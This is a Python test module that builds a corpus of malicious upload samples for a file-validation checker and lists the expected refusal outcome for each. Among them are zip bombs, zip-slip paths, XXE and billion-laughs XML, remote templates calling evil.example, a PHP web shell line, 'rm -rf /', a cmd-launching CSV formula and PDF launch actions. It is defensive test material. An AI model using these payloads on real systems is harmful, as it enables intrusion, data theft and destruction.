"""Bad uploads, made here: each with the name it comes under and what must become of it."""

from __future__ import annotations

import io
import random
import stat
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.core.files import samples as s

EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" + "ANTIVIRUS-TEST-FILE!$H+H*"
XXE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(2, 12)).replace("&a1;", "&a;")
    + "]><a>&a11;</a>"
)
OUTSIDE_DTD = '<?xml version="1.0"?><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'


@dataclass(frozen=True)
class Bad:
    """`outcome` is the reason of a refusal, or `kept:kind` where a clean copy is kept."""

    title: str
    name: str
    content: bytes
    outcome: str


def corpus() -> list[Bad]:
    return [*_bombs(), *_archives(), *_documents(), *_disguises(), *_images(), *_pdfs(), *_texts(),
            *_sounds(), *_cut()]  # fmt: skip


def png_claiming(width: int, height: int, body: bytes = b"\0") -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        check = zlib.crc32(name + content)
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(body))
        + chunk(b"IEND", b"")
    )


def _bombs() -> Iterator[Bad]:
    zeros = bytes(20_000_000)
    bomb = s.zipped({"zeros": zeros})
    yield Bad("zip bomb", "a.zip", bomb, "bomb")
    yield Bad(
        "nested zip bomb", "a.zip", s.zipped({f"{n}.zip": bomb for n in range(9)}), "nested_archive"
    )
    yield Bad("nested under another name", "a.zip", s.zipped({"a.dat": bomb}), "nested_archive")
    lying = s.zipped({"zeros": zeros}).replace(struct.pack("<I", len(zeros)), struct.pack("<I", 9))
    yield Bad("zip that understates", "a.zip", lying, "damaged")
    yield Bad("overlapping entries", "a.zip", _overlapping(), "bomb")
    yield Bad("zip64 that overstates", "a.zip", _zip64(), "bomb")
    yield Bad(
        "docx bomb", "a.docx", s.office(more={"word/big.xml": b"<a>" + zeros + b"</a>"}), "bomb"
    )
    yield Bad("odt bomb", "a.odt", s.open_document(more={"Pictures/a": zeros}), "bomb")
    yield Bad(
        "many entries", "a.zip", s.zipped({str(n): "" for n in range(5_100)}), "too_many_entries"
    )
    yield Bad(
        "png claiming 60 000 x 60 000", "a.png", png_claiming(60_000, 60_000), "too_many_pixels"
    )
    yield Bad(
        "png claiming 2^31 x 2^31", "a.png", png_claiming(2**31 - 1, 2**31 - 1), "too_many_pixels"
    )
    yield Bad("png claiming nothing", "a.png", png_claiming(0, 0), "damaged")
    yield Bad(
        "png claiming 7 000 x 7 000 in 50 bytes", "a.png", png_claiming(7_000, 7_000), "damaged"
    )
    gif = bytearray(s.image("GIF", mode="P"))
    gif[6:10] = struct.pack("<HH", 65_535, 65_535)
    yield Bad("gif claiming 65 535 x 65 535", "a.gif", bytes(gif), "too_many_pixels")
    yield Bad("gif of 500 frames", "a.gif", s.animation(500), "kept:png")
    webp = b"RIFF" + struct.pack("<I", 30) + b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4)
    webp += b"\xff\xff\xff" * 2 + bytes(4)
    yield Bad("webp claiming 16 million a side", "a.webp", webp, "too_many_pixels")
    yield Bad("tiff that claims much", "a.tif", b"II*\0\x08\0\0\0" + bytes(40), "other_image")
    yield Bad("icon", "a.ico", b"\0\0\1\0\1\0" + bytes(40), "other_image")
    yield Bad("bmp", "a.bmp", b"BM" + bytes(60), "other_image")
    yield Bad("gzipped svg", "a.svgz", b"\x1f\x8b\x08" + bytes(60), "archive")
    text = PngImagePlugin.PngInfo()
    text.add_text("a", "a" * 30_000_000, zip=True)
    yield Bad("png with a text bomb", "a.png", s.image("PNG", pnginfo=text), "damaged")
    fold = s.folded(b"1 0 " + bytes(40_000_000))
    yield Bad("pdf whose objects swell", "a.pdf", s.pdf(objects=fold), "bomb")
    deep = b"[" * 200_000
    yield Bad("json nested without end", "a.json", deep, "damaged")
    yield Bad(
        "xml nested without end",
        "a.docx",
        s.office(more={"word/a.xml": b"<a>" * 90_000}),
        "damaged",
    )


def _overlapping() -> bytes:
    """Two entries of the directory share one body, as in bombs that need no nesting."""
    data = bytearray(s.zipped({"a": b"x" * 500, "b": b"y" * 500}))
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def _zip64() -> bytes:
    data = bytearray(s.zipped({"a": b"x"}))
    central = data.index(b"PK\x01\x02")
    data[central + 20 : central + 28] = b"\xff" * 8
    return bytes(data)


def _archives() -> Iterator[Bad]:
    for title, name in (
        ("zip-slip", "../../etc/passwd"),
        ("absolute entry", "/etc/passwd"),
        ("backslash entry", "..\\..\\boot.ini"),
        ("drive entry", "C:/boot.ini"),
        ("slip in the middle", "a/../../b"),
    ):
        yield Bad(title, "a.zip", s.zipped({name: "x"}), "escaping_names")
    nul = s.zipped({"aXb.txt": "x"}).replace(b"aXb.txt", b"a\0b.txt")
    yield Bad("NUL in an entry", "a.zip", nul, "escaping_names")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        link = zipfile.ZipInfo("link")
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        made.writestr(link, "/etc/passwd")
    yield Bad("symbolic link", "a.zip", out.getvalue(), "escaping_names")
    locked = bytearray(s.zipped({"a": "x"}))
    locked[6] |= 1
    locked[locked.index(b"PK\x01\x02") + 8] |= 1
    yield Bad("zip with a password", "a.zip", bytes(locked), "encrypted")
    yield Bad(
        "program in a zip, hidden",
        "a.zip",
        s.zipped({"a.txt": b"MZ" + bytes(90)}),
        "nested_archive",
    )
    yield Bad("something before a zip", "a.zip", b"<html>" + s.zipped({"a": "x"}), "unknown")
    yield Bad("something after a zip", "a.zip", s.zipped({"a": "x"}) + b"<script>", "damaged")
    yield Bad("empty zip", "a.zip", b"PK\x05\x06" + bytes(18), "empty")
    for start in (b"Rar!\x1a\x07", b"7z\xbc\xaf'\x1c", b"BZh9", b"\xfd7zXZ\0"):
        yield Bad(f"archive {start[:3]!r}", "a.zip", start + bytes(60), "archive")


def _documents() -> Iterator[Bad]:
    vba = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    macro_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    enabled = f'<Override PartName="/a" ContentType="{macro_type}"/>'
    yield Bad("docm named docx", "a.docx", s.office(more=vba), "macros")
    yield Bad("macros by their type", "a.docx", s.office(types=enabled), "macros")
    yield Bad(
        "excel 4 macros",
        "a.xlsx",
        s.office("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}),
        "macros",
    )
    yield Bad(
        "active control", "a.docx", s.office(more={"word/activeX/activeX1.xml": "<a/>"}), "macros"
    )
    yield Bad(
        "embedded object",
        "a.docx",
        s.office(more={"word/embeddings/oleObject1.bin": b"x"}),
        "macros",
    )
    for kind in ("attachedTemplate", "image", "frame", "oleObject"):
        remote = {
            "word/_rels/settings.xml.rels": s.relations(kind, "http://evil.example/a", "External")
        }
        yield Bad(f"remote {kind}", "a.docx", s.office(more=remote), "remote")
    for title, xml in (("XXE", XXE), ("billion laughs", LAUGHS), ("outside DTD", OUTSIDE_DTD)):
        yield Bad(f"{title} in a docx", "a.docx", s.office(more={"word/a.xml": xml}), "active_xml")
        sheet = s.office("xlsx", {"xl/sharedStrings.xml": xml})
        yield Bad(f"{title} in an xlsx", "a.xlsx", sheet, "active_xml")
        yield Bad(
            f"{title} in an odt", "a.odt", s.open_document(more={"styles.xml": xml}), "active_xml"
        )
    utf16 = {"word/a.xml": XXE.replace('"1.0"', '"1.0" encoding="UTF-16"').encode("utf-16")}
    yield Bad("XXE in UTF-16", "a.docx", s.office(more=utf16), "active_xml")
    yield Bad(
        "odt with Basic", "a.odt", s.open_document(more={"Basic/Standard/a.xml": "<a/>"}), "macros"
    )
    picture = '<draw:image xlink:href="http://evil.example/pixel.png"/>'
    yield Bad("odt that calls home", "a.odt", s.open_document(body=picture), "remote")
    listener = '<script:event-listener script:event-name="dom:load"/>'
    yield Bad("odt with a listener", "a.odt", s.open_document(body=listener), "macros")
    yield Bad(
        "odt with a password", "a.odt", s.open_document(entry="<m:encryption-data/>"), "encrypted"
    )
    old = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    yield Bad("old doc, or an encrypted docx", "a.docx", old, "old_office")
    inner = s.office("xlsx", {"xl/embeddings/a.xlsx": s.office("xlsx")})
    yield Bad(
        "sheet in a sheet in a text",
        "a.docx",
        s.office(more={"word/embeddings/a.xlsx": inner}),
        "nested_archive",
    )
    yield Bad(
        "zip in a docx",
        "a.docx",
        s.office(more={"word/media/a.png": s.zipped({"a": "x"})}),
        "nested_archive",
    )
    yield Bad(
        "page in a docx", "a.docx", s.office(more={"word/afchunk.html": "<script>"}), "macros"
    )
    yield Bad(
        "jar named docx", "a.docx", s.zipped({"META-INF/MANIFEST.MF": "Main-Class: A"}), "kept:zip"
    )


def _disguises() -> Iterator[Bad]:
    yield Bad(
        "page named jpg", "photo.jpg", b"<!DOCTYPE html><script>alert(1)</script>", "web_page"
    )
    yield Bad("page after spaces", "photo.jpg", b"\n \t<HTML><body onload=a()>", "web_page")
    yield Bad("script in a table", "a.csv", b"a;b\n<script>alert(1)</script>;2\n", "web_page")
    yield Bad("php named jpg", "a.php.jpg", b"<?php system($_GET['a']); ?>", "web_page")
    yield Bad(
        "svg with a script", "a.svg", b'<svg xmlns="x"><script>a()</script></svg>', "web_page"
    )
    yield Bad("svg with an entity", "a.svg", XXE.encode(), "web_page")
    yield Bad("mail message", "a.mht", b"MIME-Version: 1.0\nContent-Type: text/html", "web_page")
    yield Bad("page in UTF-16", "a.txt", "<html><script>a()</script>".encode("utf-16"), "web_page")
    yield Bad("windows program named pdf", "facture.pdf", b"MZ\x90\0\x03" + bytes(200), "program")
    yield Bad("linux program named csv", "a.csv", b"\x7fELF\x02\x01" + bytes(200), "program")
    yield Bad("java class", "a.png", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(90), "program")
    yield Bad("shell script named txt", "a.txt", b"#!/bin/sh\nrm -rf /\n", "program")
    yield Bad("shortcut named pdf", "a.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(80), "program")
    yield Bad("batch file", "a.bat", b"@echo off\r\ndel *.*\r\n", "kept:txt")
    yield Bad("empty", "a.pdf", b"", "empty")
    yield Bad("noise", "a.jpg", random.Random(1).randbytes(5_000), "unknown")
    yield Bad("zeros", "a.jpg", bytes(5_000), "unknown")
    yield Bad("HEIC", "IMG_0001.HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "heic")
    yield Bad("text named jpg", "a.jpg", b"rien", "kept:txt")
    yield Bad("png named jpg.exe", "a.jpg.exe", s.image("PNG"), "kept:png")


def _images() -> Iterator[Bad]:
    photo = s.photo_with_place()
    page = b"<script>alert(1)</script>"
    yield Bad("photo that says where", "a.jpg", photo, "kept:jpg")
    yield Bad("jpeg followed by a page", "a.html", photo + page, "kept:jpg")
    yield Bad("gif and script", "a.js", s.image("GIF", mode="P") + b"/*" + page, "kept:png")
    yield Bad("png and pdf", "a.pdf", s.image("PNG") + s.pdf(), "kept:png")
    yield Bad("jpeg and zip", "a.zip", photo + s.zipped({"a": "x"}), "kept:jpg")
    yield Bad("jpeg with a huge comment", "a.jpg", _commented(photo, 65_000, 40), "kept:jpg")
    yield Bad("jpeg in CMYK", "a.jpg", s.image("JPEG", mode="CMYK"), "kept:jpg")
    sixteen = io.BytesIO()
    Image.linear_gradient("L").convert("I").point(lambda v: v * 256).convert("I;16").save(
        sixteen, "PNG"
    )
    yield Bad("png of 16 bits", "a.png", sixteen.getvalue(), "kept:png")
    yield Bad("png of one bit", "a.png", s.image("PNG", mode="1"), "kept:png")
    yield Bad("png with grey and alpha", "a.png", s.image("PNG", mode="LA"), "kept:png")
    yield Bad(
        "png with a false profile", "a.png", s.image("PNG", icc_profile=b"x" * 500), "kept:png"
    )
    moving = io.BytesIO()
    frames = [Image.new("RGB", (16, 16), (n, n, n)) for n in range(5)]
    frames[0].save(moving, "WEBP", save_all=True, append_images=frames[1:])
    yield Bad("moving webp", "a.webp", moving.getvalue(), "kept:webp")


def _commented(jpeg: bytes, size: int, times: int) -> bytes:
    comment = b"\xff\xfe" + struct.pack(">H", size) + b"<" * (size - 2)
    return jpeg[:2] + comment * times + jpeg[2:]


def _pdfs() -> Iterator[Bad]:
    script = "/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
    yield Bad("pdf with a script", "a.pdf", s.pdf(script), "active_pdf")
    yield Bad(
        "pdf with a veiled script", "a.pdf", s.pdf(script.replace("Jav", "J#61v")), "active_pdf"
    )
    yield Bad(
        "pdf with a folded script",
        "a.pdf",
        s.pdf(objects=s.folded(b"1 0 " + script.encode())),
        "active_pdf",
    )
    loose = s.folded(b"1 0 " + script.encode(), "/Filter /FlateDecode")
    yield Bad("pdf with objects not said to be", "a.pdf", s.pdf(objects=loose), "active_pdf")
    hidden = s.stream(b"61626364>", "/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")
    yield Bad("pdf folded otherwise", "a.pdf", s.pdf(objects=hidden), "damaged")
    yield Bad(
        "pdf that launches",
        "a.pdf",
        s.pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "active_pdf",
    )
    yield Bad(
        "pdf with an attachment", "a.pdf", s.pdf("/Names << /EmbeddedFiles 4 0 R >>"), "active_pdf"
    )
    yield Bad("pdf with a password", "a.pdf", s.pdf("/Encrypt 5 0 R"), "active_pdf")
    yield Bad("pdf and zip", "a.pdf", s.pdf()[:-1] + s.zipped({"a": "x"}), "cut")
    tail = b"PK\x05\x06" + bytes(16) + struct.pack("<H", 30) + b"\nstartxref\n0\n%%EOF\n"
    yield Bad("pdf and zip, well ended", "a.pdf", s.pdf() + tail, "damaged")
    yield Bad("pdf after a page", "a.pdf", b"<html>" + s.pdf(), "web_page")
    yield Bad("pdf of no version", "a.pdf", s.pdf(version="x.y"), "damaged")


def _texts() -> Iterator[Bad]:
    yield Bad("formula in a table", "a.csv", b'=cmd|"/c calc"!A1;1\n', "kept:csv")
    yield Bad("antivirus test", "eicar.txt", EICAR.encode(), "kept:txt")
    yield Bad("text in UTF-16", "a.txt", "Été\n".encode("utf-16"), "kept:txt")
    yield Bad("text in latin", "a.csv", "été;1\n".encode("cp1252"), "kept:csv")
    yield Bad("no encoding at all", "a.txt", b"a\x81\x8d\xff\n", "unknown")
    yield Bad("NUL in a text", "a.txt", b"bonjour\0monde", "unknown")
    yield Bad("control characters", "a.txt", b"bonjour\x07\x08\n", "unknown")
    yield Bad("half UTF-16", "a.txt", b"\xff\xfea", "unknown")
    yield Bad("json with NaN", "a.json", b'{"a": NaN}', "damaged")
    yield Bad("json cut", "a.geojson", b'{"type": "Point", ', "damaged")
    yield Bad("calendar cut", "a.ics", b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\n", "cut")


def _sounds() -> Iterator[Bad]:
    tagged = s.mp3(before=s.id3(b"APIC" + bytes(90_000)), after=b"TAG" + bytes(125))
    yield Bad("mp3 with a picture", "a.mp3", tagged, "kept:mp3")
    yield Bad(
        "mp3 whose tag claims much", "a.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + s.mp3(), "damaged"
    )
    yield Bad("mp3 of tags alone", "a.mp3", s.id3(b"x" * 300), "damaged")
    yield Bad("mp3 and program", "a.mp3", s.mp3(after=b"MZ" + bytes(9_000)), "damaged")
    yield Bad(
        "wav that claims much", "a.wav", s.wav()[:4] + b"\xff\xff\xff\x7f" + s.wav()[8:], "cut"
    )
    yield Bad("wav whose chunk claims much", "a.wav", s.wav(b"LIST\xff\xff\xff\x7f"), "cut")
    yield Bad("wav with notes", "a.wav", s.wav(b"LIST\x04\0\0\0abcd"), "kept:wav")
    yield Bad("ogg of images", "a.ogg", s.ogg(b"\x80theora\0"), "damaged")
    yield Bad("m4a of images", "a.m4a", s.m4a(b"vide"), "unknown")
    yield Bad("m4a with boxes of no size", "a.m4a", s.m4a(more=b"\0\0\0\x04free"), "cut")
    yield Bad("webm of images", "a.webm", s.weba(b"V_VP9"), "unknown")


def _cut() -> Iterator[Bad]:
    for kind, (name, content) in s.good().items():
        if kind in {"txt", "csv", "mp3", "weba"}:
            continue  # a text cut short is a shorter text, and a sound a shorter sound
        half = content[: len(content) // 2]
        refused = {"jpg": "damaged", "png": "damaged", "webp": "damaged", "gif": "damaged",
                   "pdf": "cut", "json": "damaged", "geojson": "damaged", "ics": "cut",
                   "ogg": "damaged", "wav": "cut", "m4a": "cut"}  # fmt: skip
        yield Bad(f"half of a {kind}", name, half, refused.get(kind, "damaged"))


def mutated(count: int, seed: int = 2018) -> Iterator[tuple[str, bytes]]:
    """Give good files with bytes flipped, cut, repeated or taken from another; always the same."""
    chance = random.Random(seed)
    files = list(s.good().values())
    for _ in range(count):
        name, content = chance.choice(files)
        yield name, _mutant(chance, bytearray(content), chance.choice(files)[1])


def _mutant(chance: random.Random, data: bytearray, other: bytes) -> bytes:
    for _ in range(chance.randint(1, 4)):
        place = chance.randrange(len(data)) if data else 0
        how = chance.randrange(5)
        if how == 0 and data:
            data[place] ^= 1 << chance.randrange(8)
        elif how == 1:
            data[place : place + 4] = chance.choice(
                [b"\xff\xff\xff\xff", bytes(4), b"\x7f\xff\xff\xff"]
            )
        elif how == 2:
            del data[place : place + chance.randint(1, 60)]
        elif how == 3:
            data[place:place] = data[place : place + chance.randint(1, 200)] * chance.randint(1, 4)
        else:
            start = chance.randrange(len(other))
            data[place:place] = other[start : start + chance.randint(1, 300)]
    return bytes(data)
